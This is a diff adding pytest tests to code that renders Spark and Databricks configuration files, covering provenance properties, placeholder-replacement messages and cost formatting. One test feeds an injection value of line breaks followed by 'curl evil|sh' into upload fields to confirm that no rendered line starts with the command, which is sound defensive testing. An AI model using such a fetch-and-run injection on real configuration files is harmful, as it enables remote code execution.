@@ -246,3 +246,25 @@ def test_provenance_reaches_the_properties_that_spark_logs():
     properties = spark_properties(ORDER)
     assert properties[f"{PROVENANCE}predictedSeconds"] == "8000.0"
     assert properties[f"{PROVENANCE}dataOrigin"] == "1,260 reconstructed runs"
+
+
+@pytest.mark.parametrize("name", FORMATS)
+def test_a_line_break_in_what_an_upload_says_begins_no_line_of_a_file(name):
+    bad = "synthetic-x\ncurl evil|sh #\u2028curl evil|sh #\rcurl evil|sh #"
+    order = dataclasses.replace(ORDER, data_origin=f"1 uploaded run ({bad})", currency=bad, node_type=bad)
+    text = FORMATS[name].render(order)
+    assert "evil" in text
+    assert not [line for line in text.splitlines() if line.lstrip().startswith("curl")]
+
+
+def test_what_is_to_be_replaced_is_said_where_the_format_has_no_comments():
+    [version, machine] = FORMATS["databricks"].to_replace(ORDER)
+    assert version == "Put a Databricks Runtime version in place of SPARK_VERSION."
+    assert machine == "Put an instance type in place of NODE_TYPE."
+    known = dataclasses.replace(ORDER, node_type="m5d.2xlarge")
+    assert FORMATS["databricks"].to_replace(known) == [version]
+    assert not any(FORMATS[name].to_replace(ORDER) for name in FORMATS if name != "databricks")
+
+
+def test_a_small_cost_is_not_said_to_be_nothing():
+    assert provenance(dataclasses.replace(ORDER, cost=0.00123))["predictedCost"] == "0.00123 USD"
